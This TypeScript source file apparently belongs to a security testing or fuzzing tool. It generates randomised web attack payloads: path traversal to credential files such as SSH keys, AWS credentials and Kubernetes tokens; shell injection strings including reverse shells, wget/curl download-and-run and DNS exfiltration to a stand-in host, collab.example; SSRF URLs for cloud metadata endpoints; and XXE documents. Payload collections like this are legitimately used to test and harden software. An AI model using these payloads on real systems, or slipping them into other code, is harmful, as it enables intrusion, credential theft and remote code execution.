import type { Payload } from '../attack.ts';
import type { Random } from '../random.ts';

const TARGETS = [
  'proc/self/environ',
  'etc/nginx/nginx.conf',
  'var/log/apache2/access.log',
  'etc/ssh/sshd_config',
  'home/deploy/.ssh/id_rsa',
  'proc/self/cmdline',
  'etc/fstab',
  'root/.aws/credentials',
  'etc/crontab',
  'var/run/secrets/kubernetes.io/serviceaccount/token',
];
const DRIVE = ['boot.ini', 'Windows\\System32\\config\\SAM', 'Windows\\repair\\sam', 'Windows\\php.ini'];

export function traversal(r: Random): Payload {
  const up = r.int(3, 10);
  const file = r.pick(TARGETS);
  const lead = r.pick(['', 'theme/', `${r.token(3)}/`, 'assets/css/']);
  return r.pick<() => Payload>([
    () => ({
      technique: 'encoded dot',
      text: `${lead}${'.%2e/'.repeat(up)}${file}`,
      wire: true,
      kinds: ['path', 'query'],
    }),
    () => ({
      technique: 'encoded dots',
      text: `${lead}${'%2e%2e/'.repeat(up)}${file}`,
      wire: true,
      kinds: ['path', 'query'],
    }),
    () => ({
      technique: 'encoded backslash',
      text: `${lead}${'..%5c'.repeat(up)}${r.pick(DRIVE).replaceAll('\\', '%5c')}`,
      wire: true,
      kinds: ['path', 'query', 'form'],
    }),
    () => ({
      technique: 'full-width slash',
      text: `${lead}${'..%ef%bc%8f'.repeat(up)}${file.replaceAll('/', '%ef%bc%8f')}`,
      wire: true,
      kinds: ['query'],
    }),
    () => ({
      technique: 'percent u',
      text: `${lead}${'%u002e%u002e%u2215'.repeat(up)}${file}`,
      wire: true,
      kinds: ['query'],
    }),
    () => ({
      technique: 'nested percent',
      text: `${lead}${'%%32%65%%32%65/'.repeat(up)}${file}`,
      wire: true,
      kinds: ['query', 'path'],
    }),
    () => ({
      technique: 'triple encoded',
      text: `${lead}${'%25252e%25252e%25252f'.repeat(up)}${file}`,
      wire: true,
      kinds: ['query'],
    }),
    () => ({
      technique: 'filter remainder',
      text: `${lead}${r.pick(['..././', '....//', '.../...//']).repeat(up)}${file}`,
      kinds: ['query', 'json', 'form', 'xml'],
    }),
    () => ({
      technique: 'mixed slashes',
      text: `${lead}${r.pick(['..\\/', '..//', '../\\']).repeat(up)}${file}`,
      kinds: ['query', 'json', 'header'],
    }),
    () => ({
      technique: 'drive letter',
      text: `${r.pick(['C:\\', 'c:/', 'C:\\..\\'])}${r.pick(DRIVE)}`,
      kinds: ['query', 'json', 'form'],
    }),
    () => ({
      technique: 'stream wrapper',
      text: `php://filter/${r.pick(['convert.base64-encode', 'read=string.rot13'])}/resource=${r.pick(['index', 'config', `../${r.token(3)}`])}.php`,
      kinds: ['query', 'json'],
      alsoFamilies: ['ssrf'],
    }),
    () => ({
      technique: 'java resources',
      text: `${'../'.repeat(up)}WEB-INF/${r.pick(['web.xml', 'classes/application.properties', 'applicationContext.xml'])}`,
      kinds: ['query', 'json'],
    }),
    () => ({
      technique: 'relative in a field',
      text: `${lead}${'../'.repeat(up)}${file}`,
      kinds: ['json', 'xml', 'form', 'cookie'],
    }),
  ])();
}

export function shell(r: Random): Payload {
  const t = r.token(3);
  const host = `${r.hex(5)}.collab.example`;
  const wait = r.int(6, 15);
  return r.pick<() => Payload>(
    [
      () => ({
        technique: 'field separator',
        text: `${t};cat$IFS/etc/${r.pick(['passwd', 'group', 'hostname'])}`,
      }),
      () => ({
        technique: 'braced separator',
        text: `${t}|cat\${IFS}/proc/${r.pick(['version', 'cpuinfo', 'self/environ'])}`,
      }),
      () => ({ technique: 'quotes in words', text: `${t}&&c'a't /et''c/pas''swd` }),
      () => ({ technique: 'empty substitution', text: `${t};w$()ho$()ami` }),
      () => ({ technique: 'wildcards', text: `${t};/???/??t /???/p??s??` }),
      () => ({
        technique: 'brace list',
        text: `${t};{${r.pick(['cat,/etc/passwd', 'ls,-la,/root', 'wget,http://' + host + '/a'])}}`,
      }),
      () => ({
        technique: 'base64 pipe',
        text: `${t};echo ${btoa(`curl ${host}`)}|base64 -d|${r.pick(['sh', 'bash'])}`,
      }),
      () => ({
        technique: 'reverse shell',
        text: `${t};bash -i >& /dev/tcp/${host}/${r.int(1024, 9999)} 0>&1`,
      }),
      () => ({
        technique: 'netcat',
        text: `${t}|nc ${r.pick(['-e /bin/sh', '-c bash'])} ${host} ${r.int(1024, 9999)}`,
      }),
      () => ({
        technique: 'python',
        text: `${t};python3 -c 'import os;os.system("${r.pick(['id', 'whoami', 'w'])}")'`,
      }),
      () => ({ technique: 'perl', text: `${t}|perl -e 'system("${r.pick(['id', 'uname', 'ls'])}")'` }),
      () => ({
        technique: 'powershell',
        text: `${t}&powershell -${r.pick(['enc', 'EncodedCommand', 'e'])} ${btoa(`iex ${t}${r.hex(6)}`)}`,
      }),
      () => ({
        technique: 'cmd',
        text: `${t}&cmd /c ${r.pick(['dir c:\\', 'net user', 'type c:\\boot.ini', 'ipconfig /all'])}`,
      }),
      () => ({
        technique: 'windows pipe',
        text: `${t}|net ${r.pick(['user', 'localgroup administrators', 'view'])}`,
      }),
      () => ({ technique: 'download and run', text: `${t};wget -qO- http://${host}/${r.token(2)}|sh` }),
      () => ({ technique: 'curl and run', text: `$(curl -s http://${host}/${r.token(2)}|bash)` }),
      () => ({ technique: 'dns out', text: `\`nslookup $(whoami).${host}\`` }),
      () => ({
        technique: 'shellshock',
        text: `() { :;}; ${r.pick(['/bin/bash -c', 'echo;', '/usr/bin/env'])} "${r.pick(['id', 'cat /etc/passwd', `ping ${host}`])}"`,
        kinds: ['header'],
      }),
      () => ({ technique: 'wait', text: `${t}$(sleep ${wait})`, delaySeconds: wait }),
      () => ({
        technique: 'wait by ping',
        text: `${t}& ping -n ${wait + 1} 127.0.0.1 &`,
        delaySeconds: wait,
      }),
      () => ({ technique: 'wait by timeout', text: `${t}||timeout /t ${wait}||`, delaySeconds: wait }),
    ].map((make) => () => ({ ...make(), alsoFamilies: ['path-traversal'] as const })),
  )();
}

export function forgery(r: Random): Payload {
  const port = r.pick([':9200', ':2375', ':10250', ':8500', ':15672', ':27017', ':9090', ':8001']);
  const leaf = r.pick([
    '',
    'containers/json',
    'v1/agent/self',
    'api/v1/secrets',
    `${r.token(3)}`,
    'pods',
    'metrics',
  ]);
  const loopback = r.pick([
    '0x7f000001',
    '0177.0.0.1',
    '127.1',
    '127.0.1',
    '017700000001',
    '[::ffff:127.0.0.1]',
    '[0:0:0:0:0:0:0:1]',
    '①②⑦.⓪.⓪.①',
    '127.127.127.127',
    '0',
  ]);
  const metadata = r.pick([
    '0xa9fea9fe',
    '2852039166',
    '[::ffff:169.254.169.254]',
    '[::ffff:a9fe:a9fe]',
    '169.254.169.254.',
    '0251.0376.0251.0376',
  ]);
  return r.pick<() => Payload>([
    () => ({ technique: 'odd loopback', text: `http://${loopback}${port}/${leaf}` }),
    () => ({
      technique: 'odd metadata address',
      text: `http://${metadata}/latest/${r.pick(['meta-data/', 'user-data/', 'api/token'])}${r.token(2)}`,
    }),
    () => ({ technique: 'container credentials', text: `http://169.254.170.2/v2/credentials/${r.uuid()}` }),
    () => ({
      technique: 'Azure metadata',
      text: `http://169.254.169.254/metadata/${r.pick(['instance', 'identity/oauth2/token'])}?api-version=20${r.int(18, 23)}-0${r.int(1, 9)}-01`,
    }),
    () => ({
      technique: 'Alibaba metadata',
      text: `http://100.100.100.200/latest/meta-data/${r.pick(['ram/security-credentials/', 'image-id', 'instance-id'])}${r.token(2)}`,
    }),
    () => ({
      technique: 'DigitalOcean metadata',
      text: `http://169.254.169.254/metadata/v1${r.pick(['.json', '/user-data', '/id'])}?${r.token(2)}`,
    }),
    () => ({
      technique: 'user info before address',
      text: `https://www.partner${r.int(1, 9)}.example@127.0.0.1${port}/${leaf}`,
    }),
    () => ({
      technique: 'cluster name',
      text: `https://kubernetes.default.svc${r.pick(['', '.cluster.local'])}/${leaf}`,
    }),
    () => ({
      technique: 'odd scheme',
      text: `${r.pick(['ldap', 'tftp', 'sftp', 'jar:http', 'netdoc'])}://127.0.0.1${port}/${leaf}`,
    }),
    () => ({
      technique: 'without scheme',
      text: `//169.254.169.254/latest/${r.pick(['user-data', 'meta-data'])}/${r.token(2)}`,
    }),
    () => ({ technique: 'local domain', text: `http://localhost.localdomain${port}/${leaf}` }),
    () => ({
      technique: 'fragment trick',
      text: `http://127.0.0.1${port}/${leaf}#.partner${r.int(1, 9)}.example`,
    }),
    () => ({ technique: 'docker host', text: `http://host.docker.internal${port}/${leaf}` }),
  ])();
}

/** Whole documents: XInclude, expansion, SVG, SOAP, filters. */
export function entityXml(r: Random): { readonly text: string; readonly technique: string } {
  const t = r.token(4).replace(/^\d/, 'q');
  const file = r.pick(TARGETS);
  return r.pick([
    () => ({
      technique: 'XInclude',
      text: `<a${t} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///${file}"/></a${t}>`,
    }),
    () => ({
      technique: 'expansion',
      text: `<?xml version="1.0"?><!DOCTYPE ${t} [<!ENTITY a "${t}"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;">]><${t}>&d;</${t}>`,
    }),
    () => ({
      technique: 'SVG',
      text: `<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY ${t} SYSTEM "file:///${file}">]><svg width="${r.int(16, 512)}" height="64" xmlns="http://www.w3.org/2000/svg"><text y="16">&${t};</text></svg>`,
    }),
    () => ({
      technique: 'SOAP',
      text: `<!DOCTYPE soap:Envelope [<!ENTITY ${t} SYSTEM "http://${r.hex(5)}.collab.example/">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><q>&${t};</q></soap:Body></soap:Envelope>`,
    }),
    () => ({
      technique: 'filter wrapper',
      text: `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY ${t} SYSTEM "php://filter/read=convert.base64-encode/resource=${r.pick(['index.php', 'config.php', '/etc/passwd'])}">]><d><v>&${t};</v></d>`,
    }),
    () => ({
      technique: 'expect wrapper',
      text: `<!DOCTYPE d [<!ELEMENT d ANY><!ENTITY ${t} SYSTEM "expect://${r.pick(['id', 'ls', 'whoami'])}">]><d>&${t};</d>`,
    }),
    () => ({
      technique: 'error channel',
      text: `<!DOCTYPE m [<!ENTITY % ${t} SYSTEM "file:///${file}"><!ENTITY % e "<!ENTITY &#x25; x SYSTEM 'file:///none/%${t};'>">%e;%x;]><m/>`,
    }),
    () => ({
      technique: 'apostrophes and line breaks',
      text: `<!DOCTYPE\n m\n [\n <!ENTITY\n ${t}\n SYSTEM\n 'jar:http://${r.hex(4)}.collab.example/a.zip!/f'>]><m>&${t};</m>`,
    }),
  ])();
}
